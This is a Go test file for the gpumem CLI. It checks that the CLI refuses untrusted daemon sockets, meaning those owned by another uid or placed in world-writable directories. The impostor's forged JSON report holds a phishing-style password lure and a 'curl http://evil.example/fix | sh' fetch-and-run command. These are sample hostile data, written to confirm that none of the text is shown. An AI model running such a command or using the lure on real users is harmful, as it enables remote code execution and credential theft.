package cli

import (
	"bytes"
	"context"
	"errors"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gpumem/gpumem/internal/testenv"
)

// forgedReport is what an impostor answers to every request.
const forgedReport = `{"gpus":[],"notebooks":[{"kernel_id":"f0f0f0f0-forged","notebook":"/home/you/re-enter your password at http://evil.example/login.ipynb","pids":[1]}],` +
	`"warnings":["curl http://evil.example/fix | sh"]}`

// impostor serves forgedReport on a unix socket at path and counts the
// connections it accepts.
func impostor(t *testing.T, path string) *atomic.Int32 {
	t.Helper()
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	var conns atomic.Int32
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(forgedReport))
		}),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				conns.Add(1)
			}
		},
		ReadHeaderTimeout: 5 * time.Second,
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	return &conns
}

func runWith(t *testing.T, vars map[string]string, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	env := Env{Stdout: &stdout, Stderr: &stderr, Getenv: func(k string) string { return vars[k] }}
	code := Run(context.Background(), args, env)
	return code, stdout.String(), stderr.String()
}

// A socket whose file belongs to another uid is not used: ls says so in one
// line and works standalone, free --orphans (no standalone way) exits 2
// with that line; none of the forged text is shown and the impostor gets no
// connection. The same server on a socket of root's (this test's user) is
// used: the check refuses only what it should.
func TestUntrustedSocketRefused(t *testing.T) {
	testenv.RequireRoot(t, "the socket file is given to another uid (chown)")
	dir := t.TempDir()
	sock := filepath.Join(dir, "bob.sock")
	conns := impostor(t, sock)
	if err := os.Lchown(sock, 1001, 1001); err != nil {
		t.Fatal(err)
	}
	gpu := testenv.SimulatedGPUFile(t, testenv.SimGPU{Name: "Simulated", MemoryTotalBytes: 100})
	vars := map[string]string{"GPUMEM_FAKE_GPU": gpu, "JUPYTER_RUNTIME_DIR": filepath.Join(dir, "runtime"), "GPUMEM_SOCKET": sock}
	line := "gpumem: not using " + sock + ": the socket file belongs to uid 1001"
	advice := "not to root or you; unset GPUMEM_SOCKET or point it at your own daemon\n"

	code, stdout, stderr := runWith(t, vars, "ls", "--json")
	if code != 0 || !strings.HasPrefix(stderr, line) || !strings.HasSuffix(stderr, advice) || strings.Count(stderr, "\n") != 1 {
		t.Errorf("ls: exit %d, stderr %q; want 0 and the one line %q...", code, stderr, line)
	}
	if strings.Contains(stdout+stderr, "evil") || strings.Contains(stdout, "forged") {
		t.Errorf("ls showed the impostor's text:\n%s%s", stdout, stderr)
	}
	code, stdout, stderr = runWith(t, vars, "free", "any-kernel", "--orphans")
	if code != 2 || !strings.HasPrefix(stderr, line) || !strings.HasSuffix(stderr, advice) || strings.Count(stderr, "\n") != 1 || stdout != "" {
		t.Errorf("free --orphans: exit %d, stdout %q, stderr %q; want 2 and the one line", code, stdout, stderr)
	}
	if n := conns.Load(); n != 0 {
		t.Errorf("the impostor got %d connections", n)
	}

	// The innocent: root's own socket is used as it is.
	if err := os.Lchown(sock, 0, 0); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr = runWith(t, vars, "ls", "--json")
	if code != 0 || !strings.Contains(stdout, "f0f0f0f0-forged") || strings.Contains(stderr, "not using") {
		t.Errorf("ls on root's socket: exit %d, stdout %q, stderr %q; want its report", code, stdout, stderr)
	}
}

// A socket in a dir others may write is refused; a missing one is still
// "no daemon" (standalone, silently).
func TestUntrustedSocketDir(t *testing.T) {
	dir := t.TempDir()
	open := filepath.Join(dir, "open")
	if err := os.Mkdir(open, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(open, 0o777|os.ModeSticky); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(open, "gpumem.sock")
	impostor(t, sock)
	gpu := testenv.SimulatedGPUFile(t, testenv.SimGPU{Name: "Simulated", MemoryTotalBytes: 100})
	vars := map[string]string{"GPUMEM_FAKE_GPU": gpu, "JUPYTER_RUNTIME_DIR": filepath.Join(dir, "runtime"), "GPUMEM_SOCKET": sock}
	want := "gpumem: not using " + sock + ": its dir " + open + " is writable by group or others (mode 1777); " +
		"unset GPUMEM_SOCKET or point it at your own daemon\n"
	if code, stdout, stderr := runWith(t, vars, "kernels", "--json"); code != 0 || stderr != want || strings.Contains(stdout, "evil") {
		t.Errorf("kernels: exit %d, stdout %q, stderr %q; want 0 and %q", code, stdout, stderr, want)
	}
	vars["GPUMEM_SOCKET"] = filepath.Join(dir, "none.sock")
	if code, _, stderr := runWith(t, vars, "ls", "--json"); code != 0 || stderr != "" {
		t.Errorf("ls without a daemon: exit %d, stderr %q", code, stderr)
	}
}

func TestUntrustedLine(t *testing.T) {
	if _, ok := untrustedLine(errors.New("not using x")); ok {
		t.Error("a plain error taken for a refused socket")
	}
	if _, ok := untrustedLine(nil); ok {
		t.Error("nil taken for a refused socket")
	}
}
